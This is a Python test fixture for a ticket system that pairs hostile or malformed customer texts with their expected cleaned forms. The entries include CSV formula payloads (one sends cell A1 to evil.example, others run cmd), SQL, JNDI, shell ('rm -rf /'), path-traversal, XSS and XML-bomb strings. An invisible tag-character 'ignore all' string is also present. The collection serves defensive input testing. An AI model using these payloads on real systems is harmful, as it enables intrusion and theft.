"""Texts as a hostile or merely strange customer writes them, with the text that a ticket has of each."""

from typing import NamedTuple

HALF = "\N{REPLACEMENT CHARACTER}"


class Text(NamedTuple):
    """`read` is what becomes of `written`; only JSON can carry what `is_half`, a lone surrogate."""

    name: str
    written: str
    read: str
    is_half: bool = False


def same(name: str, text: str) -> Text:
    return Text(name, text, text)


TEXTS = [
    # Letters that are not what they seem
    same("bidi override", "pay \u202eevil\u202c now"),
    same("bidi isolates left open", "\u2066\u2067\u2068never closed"),
    same("zero width everywhere", "b\u200bi\u200cl\u200dl\u2060i\ufeffng"),
    same("only zero width", "\u200b\u200b\u200b"),
    same("homoglyphs", "Вilling аnd ассount"),
    same("stacked marks", "Z" + "\u0301" * 500 + "algo"),
    same("joined emoji", "👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪"),
    same("tag characters", "hi" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all")),
    same("variation selectors", "a" + "\ufe0f\U000e0100" * 50),
    same("private use and last plane", "\ue000\U0010fffd"),
    same("noncharacters", "a\ufffe\uffff\U0010ffffb"),
    same("right to left", "مرحبا שלום"),
    same("lines of other kinds", "a\x0bb\x0cc\x1cd\x85e\u2028f\u2029g"),
    # What no database stores
    Text("NUL", "a\0b", f"a{HALF}b"),
    Text("many NULs", "x" + "\0" * 50 + "y", "x" + HALF * 50 + "y"),
    Text("high surrogate", "a\ud83db", f"a{HALF}b", is_half=True),
    Text("low surrogate", "a\ude00b", f"a{HALF}b", is_half=True),
    Text("surrogates in the wrong order", "a\ude00\ud83db", f"a{HALF}{HALF}b", is_half=True),
    # Control of whoever shows it
    same("control characters", "a\x01\x02\x07\x08\x0e\x7fb"),
    same("terminal colours", "\x1b[31mred\x1b[0m and \x1b]0;title\x07"),
    same("C1 controls", "a\x9b31mb\x90c"),
    Text("line ends of three systems", "a\r\nb\rc\nd", "a\nb\nc\nd"),
    Text("white space around it", " \t\n text \n\t ", "text"),
    # Languages of others
    same("formula", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
    same("formula of a command", "=cmd|' /C calc'!A0"),
    same("formula with a plus", "+1+cmd|' /C calc'!A0"),
    same("formula with an at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    same("SQL", "'; DROP TABLE jobs; --"),
    same("SQL parameter", ":date :starts_at %(id)s ? $1"),
    same("template", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {0.__class__}"),
    same("lookup", "${jndi:ldap://evil.example/a}"),
    same("format", "%s%s%n%x {} {0} %(password)s"),
    same("shell", "`id` $(id) ; rm -rf / | cat"),
    same("path", "../../../../etc/passwd\\..\\..\\windows"),
    same("JSON", '{"label": "billing", "id": "0"}'),
    same("one quote", '"'),
    same("quotes", '"" """ \'\' " , "'),
    same("separators", "a,b;c\td|e"),
    same("backslashes", "\\ \\n \\u0000 \\\\\\"),
    same("CSV inside", '1,"subject","body"\n2,"other'),
    same("pages", "---\n...\n[table]\nkey = 'value'"),
    # Markup
    Text("script", "<p>Hello</p><script>alert(1)</script>", "Hello"),
    Text("style", "<style>p{}</style><p>Hello</p>", "Hello"),
    Text("handler", '<img src=x onerror="alert(1)"><b>Hello</b>', "Hello"),
    Text("comment without end", "<p>Hello</p><!-- never", "Hello\n<-- never"),
    Text("deep markup", "<div>" * 5000 + "deep" + "</div>" * 5000, "deep"),
    Text("endless references", "<p>&#" + "9" * 5000 + ";</p>", HALF),
    Text("entities of entities", "<p>&amp;lt;script&amp;gt;</p>", "&lt;script&gt;"),
    same("XML entities", '<!ENTITY a "&b;&b;"><lolz>&a;</lolz>'),
    # Sizes
    same("one letter", "x"),
    same("no breaks", "a" * 200_000),
    same("deep brackets", "[" * 100_000),
    same("an opening and white space", "<" + " " * 100_000 + "x"),
    same("many openings", "< " * 50_000 + "x"),
    Text("over the limit", "ab" * 600_000, "ab" * 500_000),
]
